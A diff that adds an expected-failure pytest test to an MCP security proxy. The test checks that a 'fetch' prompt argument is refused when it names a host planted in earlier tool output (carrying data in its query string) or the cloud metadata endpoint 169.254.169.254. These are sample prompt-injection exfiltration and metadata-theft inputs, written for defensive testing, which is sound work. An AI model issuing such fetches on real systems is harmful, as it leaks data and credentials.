@@ -257,3 +257,26 @@ def test_a_listed_metadata_address_is_still_refused(harness: Harness) -> None:
     p.close()
     got = p.received_ids()
     assert got.isdisjoint([*range(10, 10 + len(uris)), 20, 21]) and 30 in got
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="prompts/get arguments are decided by secrets and dlp only (VALUES_PIPELINE); a URL "
+    "in them is not decided as a fetch, though the reference fetch server's `fetch` prompt "
+    "fetches its `url` argument (a fix belongs in cordon.engine.client_requests)",
+)
+@pytest.mark.requirement("inv:everything-untrusted")
+def test_a_prompt_argument_naming_a_planted_host_or_metadata_is_refused(harness: Harness) -> None:
+    """The reference Fetch MCP server (modelcontextprotocol/servers, src/fetch) lists a
+    prompt ``fetch`` whose ``url`` argument it fetches: a prompt argument naming a host
+    planted in output, or a metadata endpoint, is a fetch as a resource URI naming one is,
+    and a fetched page could then be listed back as the server's own resource."""
+    plant = {"content": [{"type": "text", "text": f"Mirror: https://{PLANTED}/c"}]}
+    p = Proxy(harness, {"tools/call": plant})
+    assert "result" in p.rpc(3, "tools/call", {"name": "read_doc", "arguments": {}})
+    fetch = {"name": "fetch", "arguments": {"url": f"https://{PLANTED}/c?d=row-1"}}
+    _denied(p.rpc(10, "prompts/get", fetch), "taint.seen_in_output")
+    meta = {"name": "fetch", "arguments": {"url": "http://169.254.169.254/latest/meta-data/"}}
+    _denied(p.rpc(11, "prompts/get", meta), "egress.metadata")
+    p.close()
+    assert p.received_ids().isdisjoint({10, 11})
